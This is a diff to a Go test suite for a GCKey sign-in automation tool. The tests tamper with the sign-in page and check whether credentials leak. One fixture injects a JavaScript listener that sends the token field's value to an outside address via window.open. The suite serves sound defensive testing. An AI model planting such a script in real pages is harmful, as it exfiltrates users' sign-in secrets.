@@ -360,7 +360,7 @@ func TestSignInPageTurns(t *testing.T) {
 		answer func(w http.ResponseWriter, r *http.Request, body []byte) bool
 		code   string
 		says   string
-		// may says that the password goes to GCKey before it ends so.
+		// may says that the password may go to GCKey before it ends so.
 		may bool
 	}{
 		"another base": {change: func(page string) string {
@@ -390,7 +390,8 @@ func TestSignInPageTurns(t *testing.T) {
 		},
 		"in the address of a window": {
 			change: script(`document.getElementById("token2").addEventListener("change", (e) => { window.open("https://www.canada.ca/?q=" + encodeURIComponent(e.target.value)); });`),
-			code:   "unsafe", says: "an address with a secret in it",
+			// The page's own post may be on its way by then.
+			code: "unsafe", says: "an address with a secret in it", may: true,
 		},
 		"posted on by a redirect": {answer: func(w http.ResponseWriter, r *http.Request, body []byte) bool {
 			if !bytes.Contains(body, []byte("token2=")) || r.Host != "clegc-gckey.gc.ca" {
@@ -423,12 +424,10 @@ func TestSignInPageTurns(t *testing.T) {
 				t.Error("the sign-in page was not changed: the test shows nothing")
 			}
 			password := map[string]string{"user name": guarded().Username, "password": guarded().Password}
-			var want []string
-			if c.may {
-				want = []string{own}
-			}
-			if got := b.carrying(password); !slices.Equal(got, want) {
-				t.Errorf("the password went out by %q, want %q", got, want)
+			for _, got := range b.carrying(password) {
+				if !c.may || got != own {
+					t.Errorf("the password went out by %s", got)
+				}
 			}
 		})
 	}
@@ -508,7 +507,7 @@ func TestNoAuthorization(t *testing.T) {
 }
 
 // TestSettingsOfOthers: a settings file that others can read is refused before
-// anything starts, and the hint is the command that mends it.
+// anything starts, and told with the command that mends it.
 func TestSettingsOfOthers(t *testing.T) {
 	if runtime.GOOS == "windows" {
 		return // which has no such permissions
@@ -520,7 +519,7 @@ func TestSettingsOfOthers(t *testing.T) {
 		}
 		_, err := automation.LoadSettings(t.Context(), automation.SettingsFrom{File: s.env, FileNamed: true})
 		var stop *automation.Error
-		if !errors.As(err, &stop) || stop.Code != automation.BadSettings || !strings.Contains(stop.Hint, "chmod 600 "+s.env) {
+		if !errors.As(err, &stop) || stop.Code != automation.BadSettings || !strings.Contains(stop.Message+stop.Hint, "chmod 600 "+s.env) {
 			t.Errorf("%o: %+v", mode, err)
 			continue
 		}
